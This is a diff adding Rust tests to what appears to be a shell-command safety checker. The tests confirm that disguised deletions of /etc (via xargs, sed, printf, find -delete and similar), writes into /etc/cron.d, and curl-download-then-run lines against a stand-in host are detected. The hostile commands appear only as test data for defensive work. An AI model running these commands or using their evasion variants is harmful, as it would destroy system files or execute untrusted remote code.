@@ -61,3 +61,85 @@ fn what_lies_beyond_a_bound_is_said() {
         &format!("gcc -c {files}"),
     ]);
 }
+
+/// Names beside a list are names too, and a filter that makes others of them leaves none that are known.
+#[test]
+fn what_stands_beside_a_list_or_is_made_of_it_counts() {
+    let removes = |line: &str| {
+        let seen = inspect(line);
+        let removed = |name: &str| name == "/etc" || name.starts_with("/etc/");
+        seen.touches.iter().any(|touch| touch.effect == Effect::Delete && removed(&touch.name))
+            || !seen.unknowns.is_empty()
+    };
+    for line in [
+        "{ echo /etc; find build; } | xargs rm -rf",
+        "rm -rf $(find build; echo /etc)",
+        "for f in $(find build; cat list); do rm -rf \"$f\"; done",
+        "find build > l; echo /etc >> l; xargs rm -rf < l",
+        "cat <(find build) <(echo /etc) | xargs rm -rf",
+        "find build | cat - list.txt | xargs rm -rf",
+        "{ [ -f x ] && echo /etc || find src; } | xargs rm -rf",
+        "if test -d x; then echo /etc; else find src; fi | xargs rm -rf",
+        "find build | sed 's,^build,/etc,' | xargs rm -rf",
+        "git ls-files | sed 's,^,/etc/,' | xargs rm -rf",
+        "find build | awk '{print \"/etc\"}' | xargs rm -rf",
+        "find build | cut -d/ -f2 | xargs rm -rf",
+        "find build | tr b / | xargs rm -rf",
+        "find build | rev | xargs rm -rf",
+        "find build -printf '/etc\\n' | xargs rm -rf",
+        "find build -exec echo /etc \\; | xargs rm -rf",
+        "printf '%s\\0' build/* /etc | xargs -0 rm -rf",
+        "printf '/etc/%s\\n' * | xargs rm -rf",
+        "echo '/e\"t\"c' | xargs rm -rf",
+        "find -O3 /etc -delete",
+        "find -D tree /etc -delete",
+        "printf '/etc\\0' | find -files0-from - -delete",
+        "find build -exec rm -rf + /etc \\;",
+        "find /etc -name etc -exec rm -rf {} +",
+    ] {
+        assert!(removes(line), "{line}: {:#?}", inspect(line));
+    }
+    let writes = |line: &str| {
+        inspect(line)
+            .touches
+            .iter()
+            .any(|touch| touch.effect == Effect::Update && touch.name.starts_with("/etc/cron.d"))
+    };
+    assert!(writes("find . -name x -print0 | xargs -0I{} cp {} /etc/cron.d/"));
+    clear(&[
+        "find src -name '*.py' | grep -v test | sort -u | head -20 | xargs wc -l",
+        "find . -name '*.md' | sed 's|^\\./||' | xargs grep -c todo",
+        "git ls-files | tr '\\n' '\\0' | xargs -0 wc -l",
+        "find . -exec grep -l todo {} + | xargs wc -l",
+        "ls -l src | awk '{print $9}' | xargs -I{} wc -l src/{}",
+        "printf '%s\\0' src/*.py | xargs -0 wc -l",
+    ]);
+}
+
+/// A line that changes its folder, which may fail, still knows what it wrote and runs it.
+#[test]
+fn what_a_line_wrote_is_known_wherever_it_is_by_then() {
+    all(
+        FindingKind::DownloadAndExecute,
+        &[
+            "cd /tmp; curl -o x.sh http://h.example/c; sh x.sh",
+            "cd /tmp && curl http://h.example/c -o i.sh; bash i.sh",
+            "curl http://h.example/c > s.sh; cp s.sh d/; sh d/s.sh",
+            "curl http://h.example/c > s.sh; cp -t d s.sh; sh d/s.sh",
+            "curl http://h.example/c > s.sh; mv s.sh d/; sh d/s.sh",
+            "curl http://h.example/c > s.sh; bash *.sh",
+            "curl http://h.example/c > s.sh; for f in *.sh; do sh $f; done",
+        ],
+    );
+    for line in [
+        "cd sub; echo 'rm -rf /etc' > x.sh; sh x.sh",
+        "cd /tmp; cat > x.py <<'E'\nimport shutil; shutil.rmtree('/etc')\nE\npython3 x.py",
+    ] {
+        let seen = inspect(line);
+        assert!(seen.found(FindingKind::DestroysSystem) || !seen.unknowns.is_empty(), "{line}: {seen:#?}");
+    }
+    clear(&[
+        "cd build; printf 'echo hi\\n' > x.sh; sh x.sh",
+        "mkdir -p /tmp/w && cd /tmp/w && echo 'print(1)' > a.py && python3 a.py",
+    ]);
+}
